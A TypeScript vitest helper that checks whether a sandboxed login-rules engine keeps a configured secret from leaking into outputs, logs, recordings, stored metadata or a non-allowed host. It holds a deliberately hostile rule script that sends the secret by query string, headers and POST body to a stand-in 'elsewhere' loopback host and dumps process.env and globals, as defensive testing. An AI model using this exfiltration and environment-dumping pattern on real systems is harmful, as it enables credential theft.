import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { buffer } from 'node:stream/consumers'
import { expect } from 'vitest'
import { createEngine } from '../../src/engine/engine.ts'
import { recordInto } from '../../src/recording/format/record-into.ts'
import { useServer } from '../sandbox/http-server.ts'

const canary = 'canary-7f3a"91/& +é'
/** Starts the service of the rules, and returns what runs one that ends so, and looks for the secret in all that it shows. */
export function useCanary() {
  const arrived: string[] = []

  /** It says back all that it gets, in each way that a service might. */
  const server = useServer(async (request, response) => {
    const { headers, url = '' } = request
    const body = (await buffer(request)).toString()
    arrived.push(JSON.stringify({ host: headers.host, url, headers, body }))
    const echo = JSON.stringify({
      headers,
      url,
      body,
      hex: Buffer.from(canary).toString('hex'),
      base64: btoa(encodeURIComponent(canary)),
    })
    response.setHeader('x-echo', encodeURIComponent(canary))
    response.end(Buffer.from(url.startsWith('/base64') ? Buffer.from(`ada:${canary}`).toString('base64') : echo))
  })
  /** A rule that sends the secret to its service and elsewhere, and prints, stores and throws all that it has and gets. */
  const script = (ending: string): string => `async function (user, context, callback) {
    const { CRM_KEY } = configuration;
    const home = 'http://localhost:${server.port}', elsewhere = 'http://127.0.0.1:${server.port}';
    const seen = [];
    const look = (label, value) => { seen.push([label, value]); console.log(label, value); };
    const attempt = async (label, work) => { try { look(label, await work()); } catch (error) { look(label + ' failed', [error.code, error.message, error.stack]); } };
    const read = async (answer) => [answer.url, [...answer.headers], await answer.text()];
    const headers = { 'x-key': CRM_KEY, authorization: 'Basic ' + btoa('ada:' + CRM_KEY) };
    await attempt('home', () => fetch(home + '/?key=' + CRM_KEY, { headers }).then(read));
    await attempt('base64', () => fetch(home + '/base64', { headers }).then(read));
    await attempt('json', () => fetch(home, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ CRM_KEY }) }).then(read));
    await attempt('http', () => new Promise((resolve, reject) => require('http').get(home, { headers }, (answer) => {
      let text = ''; answer.on('data', (chunk) => { text += chunk }).on('end', () => resolve([answer.rawHeaders, text])) }).on('error', reject)));
    await attempt('elsewhere', () => fetch(elsewhere + '/?key=' + CRM_KEY, { headers }).then(read));
    await attempt('seen elsewhere', () => fetch(elsewhere, { method: 'POST', body: JSON.stringify(seen).replaceAll(CRM_KEY, '').replaceAll(/[\\w+/]{40,}=*/g, '') }).then(read));
    await attempt('hash', () => require('crypto').createHash('sha256').update(CRM_KEY).digest('hex'));
    await attempt('environment', () => [Object.keys(globalThis), typeof process === 'object' && process.env, Object.entries(configuration), require('util').inspect(global, { depth: 9 })]);
    global.seen = seen;
    user.seen = seen; user.app_metadata = { CRM_KEY, seen }; context.idToken.seen = seen;
    await attempt('store', () => auth0.users.updateAppMetadata(user.user_id, { CRM_KEY, seen: JSON.stringify(seen) }));
    ${ending} }`

  return async (ending: string): Promise<void> => {
    arrived.length = 0
    const stored: unknown[] = []
    const folder = mkdtempSync(join(tmpdir(), 'claimsmith-canary-'))
    const engine = createEngine({
      rules: [{ name: 'crm', script: script(ending) }],
      configuration: { CRM_KEY: { value: canary, hosts: ['localhost'] } },
      network: { allow: ['127.0.0.1', '::1'] },
      limits: {
        maxOutputBytes: 2_000_000,
        maxLogBytes: 2_000_000,
        wallPerRuleMs: 20_000,
        cpuPerRuleMs: 2_000,
        cpuPerLoginMs: 2_000,
      },
      users: { updateAppMetadata: async (_id, metadata) => void stored.push(metadata) },
      record: recordInto(folder),
    })
    const outcome = await engine.run({ user: { user_id: 'auth0|1' }, context: { idToken: {} } })
    await engine.close()
    const recordings = readdirSync(folder).map((file) => readFileSync(join(folder, file), 'utf8'))
    const [home = [], away = []] = [`localhost:${server.port}`, `127.0.0.1:${server.port}`].map((host) =>
      arrived.filter((one) => (JSON.parse(one) as { host: string }).host === host),
    )
    rmSync(folder, { recursive: true })

    const forms = [
      canary,
      JSON.stringify(canary).slice(1, -1),
      encodeURIComponent(canary),
      Buffer.from(canary).toString('hex'),
    ]
    const base64 = [0, 1, 2].map((shift) =>
      Buffer.from('x'.repeat(shift) + canary)
        .toString('base64')
        .slice(4, 20),
    )
    for (const shown of [JSON.stringify(outcome), JSON.stringify(stored), ...recordings, ...away]) {
      for (const form of [...forms, ...base64, 'canary-7f3a']) expect(shown).not.toContain(form)
    }
    expect(recordings.length).toBe(2)
    expect(stored.length).toBe(1)
    expect(away.length).toBe(1)
    expect(outcome.rules[0]?.logs.length).toBeGreaterThanOrEqual(9)
    expect(home.length).toBe(4)
    assertArrived(home)
  }
}

/** The service got the secret in each form. */
function assertArrived(requests: readonly string[]): void {
  const [first, , json] = requests.map(
    (one) => JSON.parse(one) as { url: string; headers: Record<string, string>; body: string },
  )
  const { authorization = '', 'x-key': header = '' } = first?.headers ?? {}
  expect(Buffer.from(header, 'latin1').toString()).toBe(canary)
  expect(Buffer.from(authorization.slice(6), 'base64').toString()).toBe(`ada:${canary}`)
  expect(new URL(first?.url ?? '', 'http://x').searchParams.get('key')).toBe(canary)
  expect(JSON.parse(json?.body ?? '')).toEqual({ CRM_KEY: canary })
}
